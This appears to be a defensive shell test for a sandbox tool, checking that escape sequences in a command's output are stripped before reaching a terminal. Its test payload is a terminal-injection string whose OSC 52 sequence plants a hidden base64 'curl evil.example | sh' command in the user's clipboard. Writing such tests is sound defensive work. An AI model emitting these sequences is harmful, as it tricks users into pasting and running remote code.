# defence: tty-escapes
# The command's output is relayed to the caller's terminal, which obeys
# escape sequences: OSC 52 writes the host's clipboard (here, a command for
# the user to paste), CSI repaints the screen, OSC 0 retitles the window.
# With airlock's stdout and stderr on pseudo-terminals, no raw ESC (nor the
# 8-bit CSI 0x9b) may reach them; with stdout a pipe, the same bytes must
# pass unchanged.
. "$REPO/tests/escape/lib.sh"
extra=()
[ "$(id -u)" = 0 ] || extra+=(--allow-degraded)
payload='\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\a\033[2J\033]0;pwned\a\302\233\061m ok\n'
cmd=(sh -c "printf '$payload'; printf '$payload' >&2")

# Run airlock with fd 1 and fd 2 each on a pty; keep what each terminal got.
python3 - "$WORK" "$AIRLOCK" run "${extra[@]}" -- "${cmd[@]}" <<'PY' || broken "pty run failed: $(cat "$WORK/err" 2>/dev/null)"
import os, pty, select, subprocess, sys
work, argv = sys.argv[1], sys.argv[2:]
m1, s1 = pty.openpty()
m2, s2 = pty.openpty()
p = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=s1, stderr=s2)
os.close(s1); os.close(s2)
got = {m1: b"", m2: b""}
open_fds = [m1, m2]
while open_fds:
    for fd in select.select(open_fds, [], [], 30)[0]:
        try:
            d = os.read(fd, 65536)
        except OSError:
            d = b""
        if d:
            got[fd] += d
        else:
            open_fds.remove(fd)
rc = p.wait()
open(work + "/tty1", "wb").write(got[m1])
open(work + "/tty2", "wb").write(got[m2])
sys.exit(rc)
PY
for s in 1 2; do
	if LC_ALL=C grep -q $'[\x1b\x07\x9b]' "$WORK/tty$s"; then
		escaped "raw control bytes reached the terminal on fd $s: $(od -c "$WORK/tty$s" | head -2 | tr '\n' ' ')"
	fi
	grep -qF '^[]52;c;' "$WORK/tty$s" || broken "fd $s: the sequence was not shown: $(od -c "$WORK/tty$s" | head -3)"
done

# Not a terminal: airlock must not alter the bytes.
"$AIRLOCK" run "${extra[@]}" -- "${cmd[@]}" >"$WORK/pipe1" 2>"$WORK/pipe2" || broken "pipe run failed: $(cat "$WORK/pipe2")"
printf "$payload" >"$WORK/want"
cmp -s "$WORK/pipe1" "$WORK/want" || broken "stdout to a file was altered: $(od -c "$WORK/pipe1" | head -3)"
# (less airlock's own lines: as 65534 it says it runs degraded)
grep -av '^airlock: ' "$WORK/pipe2" | cmp -s - "$WORK/want" || broken "stderr to a file was altered: $(od -c "$WORK/pipe2" | head -3)"
"$AIRLOCK" run "${extra[@]}" -- "${cmd[@]}" 2>/dev/null | cmp -s - "$WORK/want" || broken "stdout to a pipe was altered"
contained "the terminal saw $(head -c 40 "$WORK/tty1")...; a pipe got the bytes as they were"
